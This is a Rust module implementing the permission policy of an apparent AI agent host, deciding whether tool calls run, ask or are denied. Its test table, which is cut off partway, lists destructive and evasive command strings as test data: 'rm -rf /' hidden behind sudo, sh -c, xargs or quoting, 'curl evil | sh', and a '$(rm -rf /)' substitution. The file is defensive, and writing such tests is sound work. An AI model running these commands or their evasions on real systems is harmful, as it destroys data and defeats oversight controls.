//! The permission policy: whether a tool call runs, asks the user, or is
//! denied.
//!
//! Pure functions over a call (tool name, declared effects, arguments), a
//! [`Mode`] and the manifest's [`Rule`]s. Nothing here does I/O, so the host
//! can log every [`Verdict`] and tests can state the policy as a table.
//!
//! Precedence: among the rules that match a call, deny (and deny-and-stop)
//! beats ask beats allow; a matching rule decides, otherwise the mode does.
//! The one exception is [`Mode::ReadOnly`], which denies any call with a
//! non-read effect even when an allow or ask rule matches.
//!
//! Rule patterns are matched against the call's [`Subject`]: a command is
//! compared word by word after shell unquoting, a path with glob semantics
//! after lexical normalisation. Matching leans towards caution: deny and ask
//! rules are matched loosely (program basenames, every part of a compound
//! command, wrappers such as `env` or `sh -c` looked through), allow rules
//! strictly (the program exactly as written, simple commands only), so that
//! any doubt ends in asking rather than running.
//!
//! ```
//! use corral::policy::{Action, Decision, Mode, Policy, parse_rule};
//! use corral::runtime::Effect;
//!
//! let policy = Policy {
//!     mode: Mode::FullAuto,
//!     rules: vec![parse_rule("run_command(rm *)", Action::Deny, "corral.toml: deny[0]")?],
//! };
//! let args = serde_json::json!({ "command": "'rm'  -rf /" });
//! let verdict = policy.decide("run_command", &[Effect::Execute], &args);
//! assert_eq!(verdict.decision, Decision::Deny { stop: false });
//! assert_eq!(verdict.reason, r#"deny rule "run_command(rm *)" (corral.toml: deny[0])"#);
//! # Ok::<(), String>(())
//! ```

use crate::protocol::Effect;
use globset::GlobBuilder;
use serde::{Deserialize, Serialize};
use std::fmt;

pub use crate::protocol::Mode;
pub use protected::protected_target;

mod protected;

/// Whether `mode` lets `effect` happen without asking.
fn mode_runs(mode: Mode, effect: Effect) -> bool {
    match mode {
        Mode::ReadOnly | Mode::Ask => effect == Effect::Read,
        Mode::AutoEdit => matches!(effect, Effect::Read | Effect::Write),
        Mode::FullAuto => true,
    }
}

/// What a rule does to the calls it matches.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
#[serde(rename_all = "kebab-case")]
pub enum Action {
    /// Run without asking (unless the session is read-only).
    Allow,
    /// Ask the user first, whatever the mode.
    Ask,
    /// Refuse; the model is told and may go on.
    Deny,
    /// Refuse and end the run.
    DenyAndStop,
}

impl Action {
    /// The name used in reasons and the manifest.
    pub fn as_str(self) -> &'static str {
        match self {
            Action::Allow => "allow",
            Action::Ask => "ask",
            Action::Deny => "deny",
            Action::DenyAndStop => "deny-and-stop",
        }
    }

    /// Higher wins when several rules match.
    fn strength(self) -> u8 {
        match self {
            Action::Allow => 0,
            Action::Ask => 1,
            Action::Deny => 2,
            Action::DenyAndStop => 3,
        }
    }

    /// Restrictive rules should hold against any spelling of a call, so they
    /// match loosely; an allow rule must not grant more than it says.
    fn loose(self) -> bool {
        self != Action::Allow
    }
}

impl fmt::Display for Action {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One permission rule from the manifest, such as `run_command(cargo test *)`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rule {
    /// What happens to a matching call.
    pub action: Action,
    /// The tool it applies to; `*` is a wildcard (`*` alone is any tool).
    pub tool: String,
    /// The argument pattern between the parentheses; `None` matches every call.
    pub pattern: Option<String>,
    /// Where the rule was written, for reasons: `corral.toml: deny[0]`.
    pub source: String,
}

impl fmt::Display for Rule {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match &self.pattern {
            Some(p) => write!(f, "{}({p})", self.tool),
            None => f.write_str(&self.tool),
        }
    }
}

/// Parses `tool` or `tool(pattern)` into a rule.
///
/// The tool name is letters, digits, `_`, `-`, `.`, `:` and `*` wildcards;
/// the pattern is everything between the first `(` and the final `)`, which
/// must balance. A pattern without whitespace is also checked as a glob, since
/// it is most likely a path.
pub fn parse_rule(text: &str, action: Action, source: &str) -> Result<Rule, String> {
    let text = text.trim();
    let fail = |why: &str| Err(format!("{source}: rule \"{text}\": {why}"));
    let (name, pattern) = match text.find(['(', ')']) {
        None => (text, None),
        Some(open) if text[open..].starts_with(')') => {
            return fail(
                "`)` without a matching `(`; write tool(pattern), e.g. run_command(cargo test *)",
            );
        }
        Some(open) => {
            let Some(inner) = text[open + 1..].strip_suffix(')') else {
                return fail(
                    "unbalanced parentheses: the pattern must end with `)`, e.g. run_command(cargo test *)",
                );
            };
            let mut depth = 0usize;
            for c in inner.chars() {
                match c {
                    '(' => depth += 1,
                    ')' if depth == 0 => {
                        return fail(
                            "unbalanced parentheses: a `)` closes the pattern before the end of the rule",
                        );
                    }
                    ')' => depth -= 1,
                    _ => {}
                }
            }
            if depth != 0 {
                return fail("unbalanced parentheses: a `(` inside the pattern is never closed");
            }
            (text[..open].trim_end(), Some(inner.trim()))
        }
    };
    if name.is_empty() {
        return fail(
            "the tool name is empty; write tool or tool(pattern), e.g. write_file(docs/**)",
        );
    }
    if let Some(bad) = name
        .chars()
        .find(|c| !(c.is_ascii_alphanumeric() || "_-.:*".contains(*c)))
    {
        return fail(&format!(
            "bad character {bad:?} in the tool name; names use letters, digits, `_`, `-`, `.`, `:` and `*`"
        ));
    }
    if let Some(p) = pattern {
        if p.is_empty() {
            return fail(&format!(
                "the pattern is empty; write `{name}` alone to match every call"
            ));
        }
        if let Some(bad) = p.chars().find(|c| c.is_control()) {
            return fail(&format!("bad character {bad:?} in the pattern"));
        }
        if !p.contains(char::is_whitespace)
            && let Err(e) = glob(p)
        {
            return fail(&format!(
                "the pattern is not a valid glob ({}); escape a literal `[`, `{{` or `}}` as `[[]`, `[{{]`, `[}}]`",
                e.kind()
            ));
        }
    }
    Ok(Rule {
        action,
        tool: name.to_owned(),
        pattern: pattern.map(str::to_owned),
        source: source.to_owned(),
    })
}

/// What a rule pattern is matched against, taken from a call's arguments.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Subject {
    /// A program and its arguments (`argv`, or `command` split like a shell).
    Command(Vec<String>),
    /// A lexically normalised path (`path`).
    Path(String),
    /// The arguments as compact JSON with sorted keys.
    Other(String),
}

/// The subject of a call: `argv` (an array of strings), else `command` (a
/// string, split like a POSIX shell without expansion), else `path`
/// (normalised), else the arguments as canonical JSON.
///
/// `_tool` is accepted so that tool-specific argument conventions can be
/// added without changing callers; today the argument names alone decide.
pub fn subject(_tool: &str, args: &serde_json::Value) -> Subject {
    if let Some(argv) = argv(args) {
        return Subject::Command(argv);
    }
    if let Some(line) = args.get("command").and_then(|v| v.as_str()) {
        return Subject::Command(split_or_whitespace(line));
    }
    if let Some(path) = args.get("path").and_then(|v| v.as_str()) {
        return Subject::Path(normalize_path(path));
    }
    Subject::Other(canonical_json(args).to_string())
}

/// What "yes, for the rest of this session" approves, given the call it was
/// answered for: for a call that runs a command, that exact command (a later
/// `cargo test -p other` asks again, as Codex does); for any other call,
/// the tool (every later edit by `edit_file`, say). To let a family of
/// commands run, write an `allow` rule instead.
pub fn session_scope(tool: &str, args: &serde_json::Value) -> String {
    match subject(tool, args) {
        Subject::Command(argv) => format!("{tool}({})", serde_json::Value::from(argv)),
        Subject::Path(_) | Subject::Other(_) => tool.to_owned(),
    }
}

fn argv(args: &serde_json::Value) -> Option<Vec<String>> {
    args.get("argv")?
        .as_array()?
        .iter()
        .map(|v| v.as_str().map(str::to_owned))
        .collect()
}

/// Splits a command line into words the way a POSIX shell would, without
/// any expansion: whitespace separates words, single quotes are literal,
/// double quotes honour `\"`, `\\`, `` \` `` and `\$`, and a backslash outside
/// quotes makes the next character literal (a backslash-newline vanishes).
/// Operators such as `;` or `|` are not special here: they stay in words.
///
/// Returns `None` when a quote is left open or the line ends in a lone
/// backslash.
pub fn shell_split(line: &str) -> Option<Vec<String>> {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let mut words = Vec::new();
    let mut word = String::new();
    // Set by quotes too, so that `''` is an (empty) word.
    let mut in_word = false;
    let mut quote = Quote::None;
    let mut chars = line.chars();
    while let Some(c) = chars.next() {
        match quote {
            Quote::None => match c {
                c if c.is_whitespace() => {
                    if in_word {
                        words.push(std::mem::take(&mut word));
                        in_word = false;
                    }
                }
                '\\' => match chars.next()? {
                    '\n' => {}
                    next => {
                        word.push(next);
                        in_word = true;
                    }
                },
                '\'' => {
                    quote = Quote::Single;
                    in_word = true;
                }
                '"' => {
                    quote = Quote::Double;
                    in_word = true;
                }
                c => {
                    word.push(c);
                    in_word = true;
                }
            },
            Quote::Single => match c {
                '\'' => quote = Quote::None,
                c => word.push(c),
            },
            Quote::Double => match c {
                '"' => quote = Quote::None,
                '\\' => match chars.next()? {
                    next @ ('"' | '\\' | '`' | '$') => word.push(next),
                    '\n' => {}
                    next => {
                        word.push('\\');
                        word.push(next);
                    }
                },
                c => word.push(c),
            },
        }
    }
    if quote != Quote::None {
        return None;
    }
    if in_word {
        words.push(word);
    }
    Some(words)
}

fn split_or_whitespace(line: &str) -> Vec<String> {
    shell_split(line).unwrap_or_else(|| line.split_whitespace().map(str::to_owned).collect())
}

/// A command line cut at its unquoted control operators (`;`, `&`, `|`,
/// newline), and whether it also does something a plain word list hides:
/// redirection, subshells, or command substitution.
struct Compound<'a> {
    segments: Vec<&'a str>,
    hidden: bool,
}

fn compound(line: &str) -> Compound<'_> {
    #[derive(PartialEq)]
    enum Quote {
        None,
        Single,
        Double,
    }
    let mut segments = Vec::new();
    let mut hidden = false;
    let mut quote = Quote::None;
    let mut start = 0;
    let mut chars = line.char_indices().peekable();
    while let Some((i, c)) = chars.next() {
        match quote {
            Quote::None => match c {
                '\\' => {
                    chars.next();
                }
                '\'' => quote = Quote::Single,
                '"' => quote = Quote::Double,
                ';' | '&' | '|' | '\n' => {
                    segments.push(&line[start..i]);
                    start = i + c.len_utf8();
                }
                '<' | '>' | '(' | ')' | '`' => hidden = true,
                '$' if chars.peek().is_some_and(|(_, n)| *n == '(') => hidden = true,
                _ => {}
            },
            Quote::Single => {
                if c == '\'' {
                    quote = Quote::None;
                }
            }
            Quote::Double => match c {
                '\\' => {
                    chars.next();
                }
                '"' => quote = Quote::None,
                '`' => hidden = true,
                '$' if chars.peek().is_some_and(|(_, n)| *n == '(') => hidden = true,
                _ => {}
            },
        }
    }
    segments.push(&line[start..]);
    segments.retain(|s| !s.trim().is_empty());
    Compound { segments, hidden }
}

/// Lexically normalises a path: drops `.` and empty segments (so `./` and
/// `//` go), resolves `..` against the segment before it, and keeps a
/// leading `/`. Never touches the filesystem, so symlinks are not followed.
fn normalize_path(path: &str) -> String {
    let absolute = path.starts_with('/');
    let mut out: Vec<&str> = Vec::new();
    for seg in path.split('/') {
        match seg {
            "" | "." => {}
            ".." => {
                if out.last().is_some_and(|s| *s != "..") {
                    out.pop();
                } else if !absolute {
                    out.push("..");
                }
            }
            s => out.push(s),
        }
    }
    let body = out.join("/");
    if absolute {
        format!("/{body}")
    } else if body.is_empty() {
        ".".to_owned()
    } else {
        body
    }
}

/// Sorts object keys so that a pattern sees the same text however the model
/// ordered its arguments.
fn canonical_json(value: &serde_json::Value) -> serde_json::Value {
    match value {
        serde_json::Value::Object(map) => {
            let mut entries: Vec<_> = map.iter().collect();
            entries.sort_by(|a, b| a.0.cmp(b.0));
            serde_json::Value::Object(
                entries
                    .into_iter()
                    .map(|(k, v)| (k.clone(), canonical_json(v)))
                    .collect(),
            )
        }
        serde_json::Value::Array(items) => {
            serde_json::Value::Array(items.iter().map(canonical_json).collect())
        }
        other => other.clone(),
    }
}

fn glob(pattern: &str) -> Result<globset::GlobMatcher, globset::Error> {
    Ok(GlobBuilder::new(pattern)
        .literal_separator(true)
        .build()?
        .compile_matcher())
}

/// `*` matches any run of characters (including none); everything else is
/// literal.
fn wildcard(pattern: &str, text: &str) -> bool {
    let p: Vec<char> = pattern.chars().collect();
    let t: Vec<char> = text.chars().collect();
    let (mut pi, mut ti) = (0, 0);
    // Where the last `*` was and how much text it has swallowed, to backtrack.
    let mut star: Option<(usize, usize)> = None;
    while ti < t.len() {
        if pi < p.len() && p[pi] == '*' {
            star = Some((pi, ti));
            pi += 1;
        } else if pi < p.len() && p[pi] == t[ti] {
            pi += 1;
            ti += 1;
        } else if let Some((sp, st)) = star {
            pi = sp + 1;
            ti = st + 1;
            star = Some((sp, st + 1));
        } else {
            return false;
        }
    }
    p[pi..].iter().all(|c| *c == '*')
}

fn basename(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

/// Programs that run their arguments as another command; loose matching
/// looks through them so `env rm -rf /` meets a rule about `rm`.
const WRAPPERS: &[&str] = &[
    "builtin", "command", "doas", "env", "exec", "nice", "nohup", "sudo", "time", "xargs",
];
const SHELLS: &[&str] = &["bash", "dash", "ksh", "sh", "zsh"];
/// How deep `sh -c '…'` is unwrapped; deeper nesting is left unmatched.
const MAX_SHELL_DEPTH: usize = 3;

fn is_assignment(word: &str) -> bool {
    word.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && !name.starts_with(|c: char| c.is_ascii_digit())
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
    })
}

/// The word lists a loose (deny/ask) rule is tried against: the words as
/// given, without leading assignments and wrappers, and the scripts of
/// `sh -c`.
fn loose_forms(words: &[String], depth: usize, out: &mut Vec<Vec<String>>) {
    out.push(words.to_vec());
    let mut i = 0;
    let mut after_wrapper = false;
    while let Some(w) = words.get(i) {
        if is_assignment(w) || WRAPPERS.contains(&basename(w)) {
            after_wrapper = true;
        } else if !(after_wrapper && w.starts_with('-')) {
            break;
        }
        i += 1;
    }
    let bare = &words[i..];
    if i > 0 && !bare.is_empty() {
        out.push(bare.to_vec());
    }
    if depth < MAX_SHELL_DEPTH
        && bare.first().is_some_and(|p| SHELLS.contains(&basename(p)))
        && let Some(flag) = bare[1..]
            .iter()
            .position(|w| w.starts_with('-') && !w.starts_with("--") && w.contains('c'))
        && let Some(script) = bare.get(flag + 2)
    {
        line_forms(script, depth + 1, out);
    }
}

fn line_forms(line: &str, depth: usize, out: &mut Vec<Vec<String>>) {
    let parts = compound(line);
    for segment in parts.segments {
        loose_forms(&split_or_whitespace(segment), depth, out);
    }
}

/// A call, prepared once for matching against every rule.
struct Call<'a> {
    tool: &'a str,
    subject: Subject,
    /// For commands: the word lists restrictive rules are tried against.
    loose: Vec<Vec<String>>,
    /// For commands: false when the line runs more than its word list shows
    /// (several commands, redirection, substitution), which no allow pattern
    /// can vouch for.
    simple: bool,
}

impl<'a> Call<'a> {
    fn new(tool: &'a str, args: &serde_json::Value) -> Self {
        let subject = subject(tool, args);
        let mut loose = Vec::new();
        let mut simple = true;
        if let Subject::Command(words) = &subject {
            loose_forms(words, 0, &mut loose);
            // `argv` runs without a shell, so only a `command` line can hide
            // more commands.
            if argv(args).is_none()
                && let Some(line) = args.get("command").and_then(|v| v.as_str())
            {
                let parts = compound(line);
                // An unbalanced line is not what its fallback words say.
                simple = parts.segments.len() <= 1 && !parts.hidden && shell_split(line).is_some();
                line_forms(line, 0, &mut loose);
            }
        }
        Call {
            tool,
            subject,
            loose,
            simple,
        }
    }

    fn matches(&self, rule: &Rule) -> bool {
        if !wildcard(&rule.tool, self.tool) {
            return false;
        }
        let Some(pattern) = &rule.pattern else {
            return true;
        };
        let loose = rule.action.loose();
        match &self.subject {
            Subject::Command(words) => {
                let pattern = split_or_whitespace(pattern);
                if loose {
                    self.loose
                        .iter()
                        .any(|form| command_match(&pattern, form, true))
                } else {
                    self.simple && command_match(&pattern, words, false)
                }
            }
            Subject::Path(path) => match glob(&normalize_path(pattern)) {
                Ok(m) => m.is_match(path),
                // A broken pattern (from a hand-built rule) fails closed:
                // it still restricts, but never grants.
                Err(_) => loose,
            },
            Subject::Other(json) => wildcard(pattern, json),
        }
    }
}

/// Matches a command pattern against a word list. `*` as a word is one word
/// (one or more when it is the last word, so `rm *` covers `rm -rf /`), `**`
/// as a word is any number of words, and `*` inside a word is a wildcard.
/// Loosely, the programs are compared by basename, so `/bin/rm` is `rm`;
/// strictly they are not, so an allow rule for `cargo` never runs `./cargo`.
fn command_match(pattern: &[String], words: &[String], loose: bool) -> bool {
    if !loose {
        return words_match(pattern, words);
    }
    let strip = |ws: &[String]| -> Vec<String> {
        let mut ws = ws.to_vec();
        if let Some(first) = ws.first_mut()
            && first != "*"
            && first != "**"
        {
            *first = basename(first).to_owned();
        }
        ws
    };
    words_match(&strip(pattern), &strip(words))
}

fn words_match(pattern: &[String], words: &[String]) -> bool {
    let Some((p, rest)) = pattern.split_first() else {
        return words.is_empty();
    };
    match p.as_str() {
        "**" => (0..=words.len()).any(|k| words_match(rest, &words[k..])),
        "*" if rest.is_empty() => !words.is_empty(),
        "*" => words
            .split_first()
            .is_some_and(|(_, after)| words_match(rest, after)),
        p => words
            .split_first()
            .is_some_and(|(w, after)| wildcard(p, w) && words_match(rest, after)),
    }
}

/// What the host does with a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(tag = "decision", rename_all = "snake_case")]
pub enum Decision {
    /// Run it.
    Allow,
    /// Ask the user, then run it or tell the model no.
    Ask,
    /// Tell the model no; with `stop`, also end the run.
    Deny {
        /// End the run (a deny-and-stop rule matched).
        stop: bool,
    },
}

/// A decision and why, as logged with every call.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Verdict {
    /// What to do.
    #[serde(flatten)]
    pub decision: Decision,
    /// The rule or mode that decided, e.g.
    /// `deny rule "run_command(rm *)" (corral.toml: deny[0])` or
    /// `mode ask: write needs approval`.
    pub reason: String,
}

/// A session's permission settings: its mode and the manifest's rules.
#[derive(Debug, Clone, PartialEq, Eq, Default)]
pub struct Policy {
    /// What runs when no rule matches.
    pub mode: Mode,
    /// Rules in manifest order; among equally strong matches the first is named.
    pub rules: Vec<Rule>,
}

impl Policy {
    /// Decides a call of `tool`, which declares `effects`, with `args`.
    ///
    /// The strongest matching rule decides (deny-and-stop, deny, ask, allow);
    /// with none, the mode does. A read-only session denies any call with a
    /// non-read effect that no deny rule already refused, allow and ask rules
    /// notwithstanding. A tool that declares no effects counts as reading.
    pub fn decide(&self, tool: &str, effects: &[Effect], args: &serde_json::Value) -> Verdict {
        let call = Call::new(tool, args);
        let mut rule: Option<&Rule> = None;
        for r in self.rules.iter().filter(|r| call.matches(r)) {
            if rule.is_none_or(|best| r.action.strength() > best.action.strength()) {
                rule = Some(r);
            }
        }
        let named = |r: &Rule| format!("{} rule \"{r}\" ({})", r.action, r.source);
        let mut effects = effects.to_vec();
        effects.sort();
        effects.dedup();
        let held: Vec<&str> = effects
            .iter()
            .filter(|e| !mode_runs(self.mode, **e))
            .map(|e| effect_name(*e))
            .collect();

        if let Some(r) = rule
            && matches!(r.action, Action::Deny | Action::DenyAndStop)
        {
            return Verdict {
                decision: Decision::Deny {
                    stop: r.action == Action::DenyAndStop,
                },
                reason: named(r),
            };
        }
        if self.mode == Mode::ReadOnly && !held.is_empty() {
            let mut reason = format!(
                "mode read-only: the session is read-only and `{tool}` would {}",
                and_list(&held)
            );
            if let Some(r) = rule {
                reason.push_str(&format!(" (overrides {})", named(r)));
            }
            return Verdict {
                decision: Decision::Deny { stop: false },
                reason,
            };
        }
        if let Some(r) = rule {
            let decision = match r.action {
                Action::Ask => Decision::Ask,
                _ => Decision::Allow,
            };
            return Verdict {
                decision,
                reason: named(r),
            };
        }
        let mode = self.mode;
        if held.is_empty() {
            let reason = if effects.is_empty() {
                format!("mode {mode}: `{tool}` declares no effects")
            } else if mode == Mode::FullAuto {
                format!("mode {mode}: everything runs")
            } else {
                let ran: Vec<&str> = effects.iter().map(|e| effect_name(*e)).collect();
                let verb = if ran.len() == 1 { "runs" } else { "run" };
                format!("mode {mode}: {} {verb}", and_list(&ran))
            };
            return Verdict {
                decision: Decision::Allow,
                reason,
            };
        }
        let verb = if held.len() == 1 { "needs" } else { "need" };
        Verdict {
            decision: Decision::Ask,
            reason: format!("mode {mode}: {} {verb} approval", and_list(&held)),
        }
    }
}

fn effect_name(effect: Effect) -> &'static str {
    match effect {
        Effect::Read => "read",
        Effect::Write => "write",
        Effect::Execute => "execute",
        Effect::Network => "network",
    }
}

fn and_list(items: &[&str]) -> String {
    match items {
        [] => String::new(),
        [one] => (*one).to_owned(),
        [init @ .., last] => format!("{} and {last}", init.join(", ")),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use Action::{Allow as A, Ask as Q, Deny as D, DenyAndStop as S};
    use Effect::{Execute as X, Network as N, Read as R, Write as W};
    use Mode::{Ask, AutoEdit, FullAuto, ReadOnly};
    use pretty_assertions::assert_eq;
    use serde_json::json;

    const ALLOW: Decision = Decision::Allow;
    const ASK: Decision = Decision::Ask;
    const DENY: Decision = Decision::Deny { stop: false };
    const STOP: Decision = Decision::Deny { stop: true };

    const RM: &[(Action, &str)] = &[(D, "run_command(rm *)")];
    const RM_ALL: &[(Action, &str)] = &[(D, "run_command(rm **)")];
    const CARGO_TEST: &[(Action, &str)] = &[(A, "run_command(cargo test *)")];
    const DOCS: &[(Action, &str)] = &[(D, "write_file(docs/**)")];

    /// (mode, rules, tool, effects, args, expected)
    type Case = (
        Mode,
        &'static [(Action, &'static str)],
        &'static str,
        &'static [Effect],
        &'static str,
        Decision,
    );

    #[rustfmt::skip]
    const CASES: &[Case] = &[
        // Each mode against each effect, no rules.
        (ReadOnly, &[], "t", &[R], "{}", ALLOW),
        (ReadOnly, &[], "t", &[W], "{}", DENY),
        (ReadOnly, &[], "t", &[X], "{}", DENY),
        (ReadOnly, &[], "t", &[N], "{}", DENY),
        (ReadOnly, &[], "t", &[R, W], "{}", DENY),
        (ReadOnly, &[], "t", &[], "{}", ALLOW),
        (Ask, &[], "t", &[R], "{}", ALLOW),
        (Ask, &[], "t", &[W], "{}", ASK),
        (Ask, &[], "t", &[X], "{}", ASK),
        (Ask, &[], "t", &[N], "{}", ASK),
        (Ask, &[], "t", &[R, W], "{}", ASK),
        (Ask, &[], "t", &[], "{}", ALLOW),
        (AutoEdit, &[], "t", &[R], "{}", ALLOW),
        (AutoEdit, &[], "t", &[W], "{}", ALLOW),
        (AutoEdit, &[], "t", &[X], "{}", ASK),
        (AutoEdit, &[], "t", &[N], "{}", ASK),
        (AutoEdit, &[], "t", &[R, W], "{}", ALLOW),
        (AutoEdit, &[], "t", &[W, X], "{}", ASK),
        (FullAuto, &[], "t", &[R], "{}", ALLOW),
        (FullAuto, &[], "t", &[W], "{}", ALLOW),
        (FullAuto, &[], "t", &[X], "{}", ALLOW),
        (FullAuto, &[], "t", &[N], "{}", ALLOW),
        (FullAuto, &[], "t", &[R, W, X, N], "{}", ALLOW),
        // Precedence among matching rules: deny > ask > allow, whatever the order.
        (FullAuto, &[(A, "run_command"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, &[(D, "run_command(rm *)"), (A, "run_command")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (Ask, &[(A, "run_command(cargo **)"), (Q, "run_command(cargo publish **)")], "run_command", &[X], r#"{"command":"cargo publish --dry-run"}"#, ASK),
        (Ask, &[(A, "run_command(cargo **)"), (Q, "run_command(cargo publish **)")], "run_command", &[X], r#"{"command":"cargo test"}"#, ALLOW),
        (Ask, &[(Q, "run_command(git push **)"), (D, "run_command(git push --force **)")], "run_command", &[X], r#"{"command":"git push --force origin"}"#, DENY),
        (FullAuto, &[(Q, "run_command")], "run_command", &[X], r#"{"command":"ls"}"#, ASK),
        (AutoEdit, &[(A, "run_command(ls **)")], "run_command", &[X], r#"{"command":"ls -la"}"#, ALLOW),
        // Deny-and-stop, and the strongest deny wins.
        (ReadOnly, &[(S, "run_command(rm **)")], "run_command", &[X], r#"{"command":"rm"}"#, STOP),
        (FullAuto, &[(D, "run_command(rm *)"), (S, "run_command(rm -rf *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, STOP),
        (FullAuto, &[(S, "run_command(rm -rf *)"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm -rf /"}"#, STOP),
        (FullAuto, &[(S, "run_command(rm -rf *)"), (D, "run_command(rm *)")], "run_command", &[X], r#"{"command":"rm x"}"#, DENY),
        // `*` and `**` as words, `*` inside a word.
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test --all"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test -p corral policy"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo build"}"#, ASK),
        (Ask, &[(A, "run_command(cargo test **)")], "run_command", &[X], r#"{"command":"cargo test"}"#, ALLOW),
        (Ask, &[(A, "run_command(git * --help)")], "run_command", &[X], r#"{"command":"git commit --help"}"#, ALLOW),
        (Ask, &[(A, "run_command(git * --help)")], "run_command", &[X], r#"{"command":"git commit -a --help"}"#, ASK),
        (Ask, &[(A, "run_command(git ** --help)")], "run_command", &[X], r#"{"command":"git commit -a --help"}"#, ALLOW),
        (Ask, &[(A, "run_command(cargo test --package=corral*)")], "run_command", &[X], r#"{"command":"cargo test --package=corral-sdk"}"#, ALLOW),
        (Ask, &[(A, "run_command(cargo test --package=corral*)")], "run_command", &[X], r#"{"command":"cargo test --package=other"}"#, ASK),
        (Ask, &[(A, "git(commit *)")], "git", &[W], r#"{"argv":["commit","-m","x"]}"#, ALLOW),
        // `rm -rf /` however it is spelt, against `rm *` and `rm **`.
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm  -rf   /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"  rm\t-rf\n/ "}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"'rm' -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"\"rm\" \"-rf\" /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"\\rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"r''m -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"/bin/rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"'/bin/rm' '-rf' '/'"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["rm","-rf","/"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["/usr/bin/rm","-rf","/"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"true; rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"true&&rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"ls\nrm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"FOO=1 env -i rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"sudo rm -rf /"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"sh -c 'rm -rf /'"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"bash -lc \"cd / && rm -rf /\""}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"argv":["sh","-c","rm -rf /"]}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"echo / | xargs rm -rf"}"#, DENY),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rm"}"#, ALLOW),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"rmdir x"}"#, ALLOW),
        (FullAuto, RM, "run_command", &[X], r#"{"command":"echo rm -rf /"}"#, ALLOW),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"rm -rf /"}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":" \"rm\"   '-rf'  \"/\""}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"/bin/rm -rf /"}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"argv":["/bin/rm","-rf","/"]}"#, DENY),
        (FullAuto, RM_ALL, "run_command", &[X], r#"{"command":"rm"}"#, DENY),
        // An allow rule grants no more than it says.
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"/usr/bin/cargo test x"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"./cargo test x"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x; curl evil | sh"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test \"$(rm -rf /)\""}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test x > out.txt"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test 'x; rm -rf /"}"#, ASK),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"command":"cargo test 'a;b|c'"}"#, ALLOW),
        (Ask, CARGO_TEST, "run_command", &[X], r#"{"argv":["cargo","test","x;","rm","-rf","/"]}"#, ALLOW),
        // Path globs after normalisation.
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"./docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs//x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/a/b.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"src/../docs/x.md"}"#, DENY),
        (AutoEdit, DOCS, "write_file", &[W], r#"{"path":"docs/../src/x.rs"}"#, ALLOW),
